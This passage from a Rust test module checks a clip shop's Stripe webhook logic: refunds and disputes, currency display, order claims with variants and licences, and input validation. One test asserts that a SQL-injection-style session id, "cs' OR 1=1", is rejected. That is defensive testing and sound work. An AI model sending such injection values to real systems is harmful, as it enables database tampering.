        assert_eq!(money_back_action(&EventKind::Refunded(back(3600))), Some(MoneyBackAction::Revoke));
        assert_eq!(money_back_action(&EventKind::Refunded(back(1800))), Some(MoneyBackAction::MarkAndAlert));
        assert_eq!(money_back_action(&EventKind::Disputed(back(0))), Some(MoneyBackAction::Revoke));
        assert_eq!(money_back_action(&EventKind::AwaitingPayment { session_id: "cs".into() }), None);
        assert_eq!(back(1800).detail(), "€18.00 of €36.00 back (refund)");
    }

    /// Amounts for the owner in the currency's own unit, not Stripe's
    /// smallest one (`1800` of what?).
    #[test]
    fn amounts_are_shown_in_their_currency() {
        assert_eq!(amount_text(1800, "eur"), "€18.00", "as the shop's pages write it");
        assert_eq!(amount_text(12345, "kwd"), "12.345 KWD");
        assert_eq!(amount_text(1800, ""), "1800", "no currency said: the bare number");
    }

    #[test]
    fn a_paid_checkout_becomes_sorted_claims() {
        let mut both = paid(&["harbor", "dunes", "harbor"]);
        both.amount_items = Some(3600);
        let claims = new_order_at("stripe", &both, &manifest(), LinkTerms::DEFAULT, 100).unwrap();
        assert_eq!(claims.clips, vec!["dunes", "harbor"]);
        assert_eq!(claims.downloads, 5);
        assert_eq!(claims.expires_at, 100 + 30 * 86_400);
        assert_eq!(claims.order_id, order_id("stripe", "cs_test_abc"));
    }

    #[test]
    fn a_paid_item_puts_its_variant_and_licence_in_the_token() {
        let mut m = manifest();
        m.shop.licences = vec![clipstore_core::ManifestLicence {
            id: "extended".into(),
            name: "Extended".into(),
            factor_permille: 1000,
            surcharge: 500,
            page: "/x/".into(),
        }];
        let harbor = m.clips.get_mut("harbor").unwrap();
        harbor.variant = Some(clipstore_core::VariantName { id: "4k".into(), label: "4K".into() });
        let mut web = clipstore_core::ManifestVariant {
            label: "720p".into(),
            object_key: "clips/h-720.mp4".into(),
            file_name: "h.mp4".into(),
            size: 1,
            content_type: "video/mp4".into(),
            price: 700,
            sha256: None,
        };
        harbor.variants.insert("web".into(), web.clone());
        let mut bought = paid(&["harbor:web", "dunes"]);
        bought.from_payment_link = true;
        let claims = new_order_at("stripe", &bought, &m, LinkTerms::DEFAULT, 100).unwrap();
        assert_eq!(claims.clips, vec!["dunes", "harbor"]);
        assert_eq!(claims.version(), 2);
        assert_eq!(claims.choice("harbor").variant.as_deref(), Some("web"));
        assert_eq!(claims.choice("harbor").licence.as_deref(), Some("extended"), "the default tier is named");
        assert_eq!(claims.choice("dunes").licence.as_deref(), Some("extended"));
        let check = PriceCheck::of(&paid(&["harbor:web", "dunes"]), &m, None);
        assert_eq!(check.expected, 700 + 500 + m.clips["dunes"].price + 500);
        // A variant the catalog no longer has is refused like a withdrawn clip.
        web.label = "x".into();
        assert_eq!(
            new_order_at("stripe", &paid(&["harbor:8k"]), &m, LinkTerms::DEFAULT, 1),
            Err(WebhookError::UnknownClip("harbor:8k".into()))
        );
    }

    #[test]
    fn unknown_or_missing_clips_are_refused() {
        assert_eq!(
            new_order_at("stripe", &paid(&["harbor", "nope"]), &manifest(), LinkTerms::DEFAULT, 1),
            Err(WebhookError::UnknownClip("nope".into()))
        );
        let none = paid(&[]);
        assert_eq!(new_order_at("stripe", &none, &manifest(), LinkTerms::DEFAULT, 1), Err(WebhookError::NotTheShops));
        let link = PaidCheckout { from_payment_link: true, ..none };
        assert_eq!(new_order_at("stripe", &link, &manifest(), LinkTerms::DEFAULT, 1), Err(WebhookError::NoClips));
        assert!(!WebhookError::NotTheShops.leaves_a_payment_without_order(), "not the shop's customer");
        assert_eq!(WebhookError::NotTheShops.status(), 200, "answered, so Stripe keeps the endpoint");
        assert_eq!(WebhookError::UnknownClip("x".into()).status(), 422);
        assert_eq!(WebhookError::BadSignature.status(), 400);
    }

    #[test]
    fn order_ids_are_short_stable_and_valid_token_order_ids() {
        let long = format!("cs_live_{}", "a".repeat(200));
        let id = order_id("stripe", &long);
        assert_eq!(id.len(), 24);
        assert_eq!(id, order_id("stripe", &long));
        assert_ne!(id, order_id("stripe", "cs_live_b"));
    }

    #[test]
    fn terms_fall_back_to_defaults() {
        assert_eq!(LinkTerms::from_vars(Some("3"), Some("7")), LinkTerms { downloads: 3, days: 7 });
        assert_eq!(LinkTerms::from_vars(Some("0"), Some("x")), LinkTerms::DEFAULT);
        assert_eq!(LinkTerms::from_vars(None, None), LinkTerms::DEFAULT);
    }

    #[test]
    fn session_ids() {
        assert!(valid_session_id("cs_test_a1B2"));
        assert!(!valid_session_id(""));
        assert!(!valid_session_id("cs' OR 1=1"));
        assert!(!valid_session_id(&"a".repeat(256)));
    }
}
